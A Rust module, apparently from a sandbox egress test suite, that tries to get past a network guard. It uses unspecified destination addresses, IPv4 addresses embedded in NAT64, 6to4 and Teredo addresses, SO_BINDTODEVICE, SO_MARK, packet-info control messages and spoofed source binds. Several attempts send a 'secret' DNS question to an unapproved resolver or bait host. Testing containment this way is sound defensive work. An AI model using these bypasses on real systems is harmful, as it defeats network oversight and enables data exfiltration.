//! Addresses that mean another address, and socket options that choose another way.

use std::net::{Ipv4Addr, Ipv6Addr};

use super::{
    group::bind_to_device,
    place::{MARK, bait4, bait6, control, v4, v6},
    question,
    raw::Socket,
    variants::strongest,
};
use crate::escape::{
    Attempt, Ground, Outcome,
    attempt::Tried,
    ground::{
        ALLOWED_PORT, ALLOWED_V4, BAIT_PORT, BAIT_V4, NEAR_V4, OTHER_RESOLVER_V4,
        OTHER_RESOLVER_V6, RESOLVER_V4,
    },
};

pub(super) const ALL: &[Attempt] = &[
    Attempt {
        name: "unspecified-address",
        title: "0.0.0.0 and :: as destination: a service of this machine that goes out",
        run: |ground| Outcome::of(unspecified(ground)),
        limit: None,
    },
    Attempt {
        name: "nat64",
        title: "IPv4 address inside a NAT64 address (RFC 6052, RFC 8215)",
        run: |ground| Outcome::of(nat64(ground)),
        limit: None,
    },
    Attempt {
        name: "6to4",
        title: "IPv4 address inside a 6to4, Teredo, compatible or translated address",
        run: |ground| Outcome::of(transition(ground)),
        limit: None,
    },
    Attempt {
        name: "bind-to-device",
        title: "SO_BINDTODEVICE, also for what is turned to the loopback device",
        run: |ground| Outcome::of(bound(ground)),
        limit: None,
    },
    Attempt {
        name: "packet-info",
        title: "the device chosen by control message (IP_PKTINFO, IPV6_PKTINFO)",
        run: |ground| Outcome::of(packet_info(ground)),
        limit: None,
    },
    Attempt {
        name: "socket-mark",
        title: "SO_MARK, which other rules on the machine may trust",
        run: |ground| Outcome::of(marked(ground)),
        limit: None,
    },
    Attempt {
        name: "foreign-source",
        title: "source address that is not ours (freebind, transparent)",
        run: |ground| Outcome::of(foreign_source(ground)),
        limit: None,
    },
];

/// Sends by UDP and connects by TCP.
fn both6(ground: &Ground, address: Ipv6Addr, port: u16) -> Tried {
    let to = v6(address, port, 0);
    strongest([
        Socket::udp6(ground).and_then(|socket| socket.send_to(MARK, 0, &to)),
        Socket::tcp6(ground).and_then(|socket| socket.connect(&to)),
    ])
}

/// The helper's proxy listens on 127.0.0.1, and the kernel takes these for it.
fn unspecified(ground: &Ground) -> Tried {
    let ask = |socket: Tried<Socket>, to: &[u8]| {
        let socket = socket?;
        socket.connect(to)?;
        socket.send(b"send\n")?;
        // The datagram of the helper is what arrives.
        socket.receive().map(drop).map_err(Outcome::refused("recv"))
    };
    let port = ground.helper_port;
    let mapped = Ipv4Addr::UNSPECIFIED.to_ipv6_mapped();
    strongest([
        ask(Socket::tcp4(ground), &v4(Ipv4Addr::UNSPECIFIED, port)),
        ask(Socket::tcp6(ground), &v6(mapped, port, 0)),
        ask(Socket::tcp6(ground), &v6(Ipv6Addr::UNSPECIFIED, port, 0)),
    ])
}

/// The IPv4 bait inside an IPv6 address that begins with these words.
fn embedded(words: [u16; 6]) -> Ipv6Addr {
    let mut octets = words.map(u16::to_be_bytes).concat();
    octets.extend(BAIT_V4.octets());
    <[u8; 16]>::try_from(octets).map_or(Ipv6Addr::UNSPECIFIED, Ipv6Addr::from)
}

fn nat64(ground: &Ground) -> Tried {
    strongest([
        both6(ground, embedded([0x64, 0xff9b, 0, 0, 0, 0]), BAIT_PORT),
        both6(ground, embedded([0x64, 0xff9b, 1, 0, 0, 0]), BAIT_PORT),
    ])
}

/// Host 1 behind this address (RFC 3056).
fn six_to_four(address: Ipv4Addr) -> Ipv6Addr {
    let [a, b, c, d] = address.octets();
    let (high, low) = (u16::from_be_bytes([a, b]), u16::from_be_bytes([c, d]));
    Ipv6Addr::new(0x2002, high, low, 0, 0, 0, 0, 1)
}

fn transition(ground: &Ground) -> Tried {
    let [a, b, c, d] = BAIT_V4.octets().map(u16::from);
    let (high, low) = (a << 8 | b, c << 8 | d);
    strongest([
        both6(ground, six_to_four(BAIT_V4), BAIT_PORT),
        // The allowed address is only where the tunnel ends: who receives it is behind it.
        both6(ground, six_to_four(ALLOWED_V4), ALLOWED_PORT),
        // Teredo writes the client's address inverted.
        both6(
            ground,
            Ipv6Addr::new(0x2001, 0, high, low, 0, 0, !high, !low),
            BAIT_PORT,
        ),
        both6(ground, embedded([0; 6]), BAIT_PORT),
        both6(ground, embedded([0, 0, 0, 0, 0xffff, 0]), BAIT_PORT),
    ])
}

fn bound(ground: &Ground) -> Tried {
    let send = |socket: Tried<Socket>, to: &[u8], payload: &[u8]| {
        let socket = socket?;
        bind_to_device(&socket, ground)?;
        socket.send_to(payload, 0, to)
    };
    let connect = |socket: Tried<Socket>, to: &[u8]| {
        let socket = socket?;
        bind_to_device(&socket, ground)?;
        socket.connect(to)?;
        socket.send(MARK)
    };
    let late = || {
        // The device is chosen after the connect was judged and turned.
        let socket = Socket::udp4(ground)?;
        socket.connect(&v4(RESOLVER_V4, 53))?;
        bind_to_device(&socket, ground)?;
        socket.send(&question::secret())
    };
    strongest([
        send(Socket::udp4(ground), &bait4(), MARK),
        send(Socket::udp6(ground), &bait6(), MARK),
        send(
            Socket::udp4(ground),
            &v4(Ipv4Addr::LOCALHOST, BAIT_PORT),
            MARK,
        ),
        send(
            Socket::udp6(ground),
            &v6(Ipv6Addr::LOCALHOST, BAIT_PORT, 0),
            MARK,
        ),
        send(
            Socket::udp4(ground),
            &v4(OTHER_RESOLVER_V4, 53),
            &question::secret(),
        ),
        send(
            Socket::udp6(ground),
            &v6(OTHER_RESOLVER_V6, 53, 0),
            &question::secret(),
        ),
        connect(Socket::tcp4(ground), &bait4()),
        connect(Socket::tcp4(ground), &v4(OTHER_RESOLVER_V4, 53)),
        connect(Socket::tcp6(ground), &v6(OTHER_RESOLVER_V6, 53, 0)),
        late(),
    ])
}

fn packet_info(ground: &Ground) -> Tried {
    let device = super::link::device(ground)?;
    // `struct in_pktinfo`: device, source, and a destination that sending does not read.
    let mut info4 = device.to_ne_bytes().to_vec();
    info4.extend(NEAR_V4.octets());
    info4.extend([0; 4]);
    let info4 = control(libc::IPPROTO_IP, libc::IP_PKTINFO, &info4);
    let mut info6 = Ipv6Addr::UNSPECIFIED.octets().to_vec();
    info6.extend(device.to_ne_bytes());
    let info6 = control(libc::IPPROTO_IPV6, libc::IPV6_PKTINFO, &info6);
    let secret = question::secret();
    let send = |socket: Tried<Socket>, payload: &[u8], to: &[u8], info: &[u8]| {
        socket?.send_with(payload, to, info)
    };
    strongest([
        send(Socket::udp4(ground), MARK, &bait4(), &info4),
        send(Socket::udp6(ground), MARK, &bait6(), &info6),
        send(
            Socket::udp4(ground),
            &secret,
            &v4(OTHER_RESOLVER_V4, 53),
            &info4,
        ),
        send(
            Socket::udp6(ground),
            &secret,
            &v6(OTHER_RESOLVER_V6, 53, 0),
            &info6,
        ),
    ])
}

fn marked(ground: &Ground) -> Tried {
    let send = |socket: Tried<Socket>, to: &[u8]| {
        let socket = socket?;
        // Many a rule set lets packets with some mark pass; the guard has none.
        socket.set_int(libc::SOL_SOCKET, libc::SO_MARK, 1)?;
        socket.send_to(MARK, 0, to)
    };
    strongest([
        send(Socket::udp4(ground), &bait4()),
        send(Socket::udp6(ground), &bait6()),
    ])
}

fn foreign_source(ground: &Ground) -> Tried {
    let source = v4(Ipv4Addr::new(198, 51, 100, 9), 4000);
    let send = |option, to: &[u8]| {
        let socket = Socket::udp4(ground)?;
        socket.set_int(libc::IPPROTO_IP, option, 1)?;
        socket.bind(&source)?;
        socket.send_to(MARK, 0, to)
    };
    let send6 = || {
        let socket = Socket::udp6(ground)?;
        socket.set_int(libc::IPPROTO_IPV6, libc::IPV6_FREEBIND, 1)?;
        let foreign = Ipv6Addr::new(0x2001, 0xdb8, 0xbad, 0, 0, 0, 0, 1);
        socket.bind(&v6(foreign, 4000, 0))?;
        socket.send_to(MARK, 0, &bait6())
    };
    strongest([
        send6(),
        send(libc::IP_FREEBIND, &bait4()),
        send(libc::IP_TRANSPARENT, &bait4()),
    ])
}
